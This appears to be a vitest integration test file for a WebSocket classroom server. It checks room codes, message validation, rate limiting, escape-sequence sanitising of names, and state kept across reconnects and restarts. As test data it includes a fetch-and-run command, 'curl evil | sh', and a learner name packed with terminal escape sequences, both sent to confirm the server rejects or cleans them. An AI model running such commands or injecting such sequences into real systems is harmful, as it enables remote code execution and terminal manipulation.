// A room and its learners on loopback: what they share shows up; bad input is refused or limited
// while the others' rows stay as they were; a dropped connection and a restarted room lose nothing.
import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { afterAll, describe, expect, it } from "vitest";
import WebSocket from "ws";
import { main } from "../../app/cli/workshop.js";
import { loadRoomFile, RoomSaver } from "../../app/room/state-file.js";
import { RoomState } from "../../app/room/state.js";
import { learner, rowsByName, startRoom, until } from "./support.js";

const work = mkdtempSync(join(tmpdir(), "workshop-room-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const results = (step: string, statuses: string[], failure?: { check: string; line: string }) => ({
  t: "checks" as const,
  step,
  checks: statuses.map((status, i) => ({ id: `${step}.check-${i}`, status: status as "pass" | "fail" })),
  ...(failure ? { failure } : {}),
});

/** `workshop room --status URL --json`, in this process. */
async function status(url: string, json = true): Promise<{ status: number; report: { learners: Record<string, unknown>[] } | undefined; stdout: string }> {
  const out = new PassThrough();
  let stdout = "";
  out.on("data", (d: Buffer) => (stdout += d.toString()));
  const code = await main(["room", "--status", url, ...(json ? ["--json"] : [])], async () => 0, { repo: work, out });
  return { status: code, stdout, report: code === 0 && json ? JSON.parse(stdout) : undefined };
}

/** A raw WebSocket to the room, as a hostile client would open one. */
async function raw(url: string): Promise<WebSocket> {
  const socket = new WebSocket(`${url.replace(/^http/, "ws")}/learner`);
  await once(socket, "open");
  return socket;
}

const closeCode = (socket: WebSocket) => once(socket, "close").then(([code]) => code as number);

describe("a room on loopback", () => {
  it("shows each learner's step, checks and failing check, live and in --status --json", async () => {
    const room = await startRoom();
    const ana = learner(room.url, "Ana", "1");
    const bo = learner(room.url, "Bo", "2");
    expect(await ana.connected(10_000)).toBe(true);
    expect(await bo.connected(10_000)).toBe(true);
    ana.send(results("1", ["pass", "pass"]));
    ana.send({ t: "done", step: "1" });
    ana.send({ t: "step", step: "2" });
    bo.send(results("2", ["pass", "fail", "fail"], { check: "2.check-1", line: "the hostname is the host's" }));
    await until(() =>
      expect(rowsByName(room.state)).toEqual({
        Ana: { step: "2", checks: "0/0", failing: undefined, connected: true },
        Bo: { step: "2", checks: "1/3", failing: "2.check-1", connected: true },
      }),
    );
    const { report } = await status(room.url);
    expect(report!.learners).toEqual([
      { name: "Bo", step: "2", passed: 1, total: 3, failing: "2.check-1", connected: true, finished: false },
      { name: "Ana", step: "2", passed: 0, total: 0, failing: null, connected: true, finished: false },
    ]);
    expect((await status(room.url, false)).stdout).toBe("Bo\t2\t1/3\t2.check-1\nAna\t2\t0/0\t\n");
  });

  it("refuses a wrong code, for the WebSocket and --status alike, before anything is read", async () => {
    const room = await startRoom();
    const wrong = room.url.replace(room.code, `${room.code.slice(0, -1)}${room.code.endsWith("A") ? "B" : "A"}`);
    const intruder = learner(wrong, "Mallory");
    expect(await intruder.connected(10_000)).toBe(false);
    expect(intruder.status).toBe("refused");
    expect(intruder.refusal).toMatch(/code/);
    expect(await status(wrong)).toMatchObject({ status: 125, stdout: "" });
    expect(room.state.learners.size).toBe(0);
    expect(room.server.refusals.get("wrong code")).toBe(2);
  });

  it("closes a connection that sends an oversized, malformed or hello-less message; the others' rows stay", async () => {
    const room = await startRoom();
    const ana = learner(room.url, "Ana", "3");
    expect(await ana.connected(10_000)).toBe(true);
    ana.send(results("3", ["pass", "fail"], { check: "3.check-1", line: "no /proc" }));
    await until(() => expect(rowsByName(room.state).Ana?.failing).toBe("3.check-1"));
    const before = rowsByName(room.state);

    const big = await raw(room.url);
    big.send(JSON.stringify({ t: "hello", learner: "big", name: "Big", step: "1", done: [], pad: "x".repeat(5000) }));
    expect(await closeCode(big)).toBe(1009);

    const malformed = await raw(room.url);
    malformed.send('{"t":"hello","learner":"m","name":"M","step":"1","done":[]}');
    await once(malformed, "message");
    malformed.send('{"t":"step","step":"1","run":"curl evil | sh"}');
    expect(await closeCode(malformed)).toBe(1008);

    const rude = await raw(room.url);
    rude.send('{"t":"step","step":"1"}');
    expect(await closeCode(rude)).toBe(1008);

    const notJson = await raw(room.url);
    notJson.send("\u001b[2J not json");
    expect(await closeCode(notJson)).toBe(1008);

    expect(rowsByName(room.state)).toMatchObject({ Ana: before.Ana });
    expect([...room.state.learners.values()].map((l) => l.name).sort()).toEqual(["Ana", "M"]);
    expect(room.server.refusals.get("hello first")).toBe(1);
    expect(room.server.refusals.get("malformed message")).toBe(2);
    // Ana is still heard.
    ana.send({ t: "step", step: "4" });
    await until(() => expect(rowsByName(room.state).Ana?.step).toBe("4"));
  });

  it("shows a name with escape sequences without them", async () => {
    const room = await startRoom();
    const eve = learner(room.url, "\u001b]0;owned\u0007\u001b[2J\u001b[31mEve\u001b[0m\r\n");
    expect(await eve.connected(10_000)).toBe(true);
    await until(() => expect(Object.keys(rowsByName(room.state))).toEqual(["Eve"]));
  });

  it("limits a client sending 1,000 messages a second, then closes it; the others' rows and messages are kept", async () => {
    const room = await startRoom();
    const ana = learner(room.url, "Ana", "2");
    expect(await ana.connected(10_000)).toBe(true);
    ana.send(results("2", ["pass", "fail"], { check: "2.check-1", line: "pid 7" }));
    await until(() => expect(rowsByName(room.state).Ana?.checks).toBe("1/2"));

    const flood = await raw(room.url);
    flood.send(JSON.stringify({ t: "hello", learner: "flood", name: "Flood", step: "1", done: [] }));
    await once(flood, "message");
    const closed = closeCode(flood);
    const applied = room.state.version;
    // 1,000 a second, for up to a second, or until the room closes the connection.
    let sent = 0;
    for (; sent < 1000 && flood.readyState === WebSocket.OPEN; sent++) {
      flood.send(JSON.stringify({ t: "step", step: String(1 + (sent % 6)) }));
      if (sent % 10 === 9) await new Promise((r) => setTimeout(r, 10));
    }
    expect(await closed).toBe(1008);
    // The burst and what the rate allows got through; the rest did not.
    expect(room.state.version - applied).toBeLessThan(60);
    expect(room.server.refusals.get("too many messages")).toBeGreaterThan(100);
    expect(rowsByName(room.state).Ana).toEqual({ step: "2", checks: "1/2", failing: "2.check-1", connected: true });
    ana.send(results("2", ["pass", "pass"]));
    await until(() => expect(rowsByName(room.state).Ana?.checks).toBe("2/2"));
  });

  it("keeps a learner's state across a lost connection: the link reconnects and says hello with all of it", async () => {
    const room = await startRoom({ pingIntervalMs: 100 });
    const ana = learner(room.url, "Ana", "2");
    expect(await ana.connected(10_000)).toBe(true);
    // The room goes while Ana keeps working: her next run is shared once she is back.
    await room.server.stop();
    await until(() => expect(rowsByName(room.state).Ana?.connected).toBe(false));
    ana.send(results("2", ["pass", "fail"], { check: "2.check-1", line: "pid 7" }));
    ana.send({ t: "done", step: "1" });
    const port = Number(new URL(room.url).port);
    const again = await startRoom({ state: room.state, code: room.code, port });
    await until(() => expect(rowsByName(again.state).Ana).toEqual({ step: "2", checks: "1/2", failing: "2.check-1", connected: true }));
    expect(again.state.learners.size).toBe(1);
    expect([...again.state.learners.values()][0]!.done).toEqual(["1"]);
  });

  it("restarts from its state file with every learner's state, the same code and port", async () => {
    const file = join(work, "restart", "room.json");
    const room = await startRoom();
    const port = Number(new URL(room.url).port);
    const saver = new RoomSaver(file, room.state, { code: room.code, port }, 10);
    const stop = room.state.subscribe(saver.schedule);
    const ana = learner(room.url, "Ana", "3");
    const bo = learner(room.url, "Bo", "5");
    expect(await ana.connected(10_000)).toBe(true);
    expect(await bo.connected(10_000)).toBe(true);
    ana.send(results("3", ["pass", "fail"], { check: "3.check-1", line: "no /proc" }));
    await until(() => expect(rowsByName(room.state).Ana?.checks).toBe("1/2"));
    await room.server.stop();
    stop();
    saver.flush();
    const expected = { Ana: { step: "3", checks: "1/2", failing: "3.check-1", connected: false }, Bo: { step: "5", checks: "0/0", failing: undefined, connected: false } };

    const saved = loadRoomFile(file)!;
    expect(saved).toMatchObject({ code: room.code, port });
    const restored = new RoomState();
    restored.restore(saved.learners);
    expect(rowsByName(restored)).toEqual(expected);
    // The learners' links find it again on their own.
    const again = await startRoom({ state: restored, code: saved.code, port: saved.port });
    await until(() => expect(rowsByName(again.state)).toEqual({ Ana: { ...expected.Ana, connected: true }, Bo: { ...expected.Bo, connected: true } }));
  });
});
